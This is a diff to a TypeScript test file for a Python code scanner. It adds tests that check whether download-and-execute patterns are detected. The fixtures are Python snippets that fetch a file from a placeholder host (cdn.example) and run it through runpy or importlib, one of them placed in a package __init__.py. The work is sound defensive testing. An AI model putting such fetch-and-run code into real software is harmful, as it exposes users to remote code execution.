@@ -5,11 +5,11 @@
 // script the archive does not hold.
 import assert from 'node:assert/strict';
 import { before, test } from 'node:test';
+import { writeZip } from '../../scripts/lib/archive-writers.ts';
 import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
 import { analyseFiles } from './in-memory-target.ts';
-import { writeZip } from '../../scripts/lib/archive-writers.ts';
 
 before(() => initAnalysis());
 
@@ -707,4 +707,29 @@ test("lines of ~/.bashrc read, edited and written back by a function that also d
   assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
   const editor = findings(source('    print("done")'));
   assert.equal(ruleOf(editor, 'persistence')?.severity, 'low', "an editor of the user's start-up file, when called");
+});
+
+test('a downloaded Python file run in-process (runpy, importlib file loaders) is download-execute', () => {
+  const viaRunpy = findings(
+    'import urllib.request, runpy, tempfile, os\np = os.path.join(tempfile.gettempdir(), "u.py")\nurllib.request.urlretrieve("https://cdn.example/u.py", p)\nrunpy.run_path(p)\n',
+    'demo/__init__.py',
+  );
+  assert.equal(ruleOf(viaRunpy, 'download-execute')?.severity, 'critical');
+  const viaImportlib = findings(
+    [
+      'import importlib.util, requests',
+      'def update():',
+      '    data = requests.get("https://cdn.example/m.py").text',
+      '    with open("/tmp/m.py", "w") as f:',
+      '        f.write(data)',
+      '    spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")',
+      '    spec.loader.exec_module(importlib.util.module_from_spec(spec))',
+      '',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(viaImportlib, 'download-execute')?.severity, 'high');
+  const localPlugin = findings(
+    'import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location("plugin", path)\n    return importlib.util.module_from_spec(spec)\n',
+  );
+  assert.equal(ruleOf(localPlugin, 'download-execute'), undefined, 'a plugin loader given a path is not a dropper');
 });
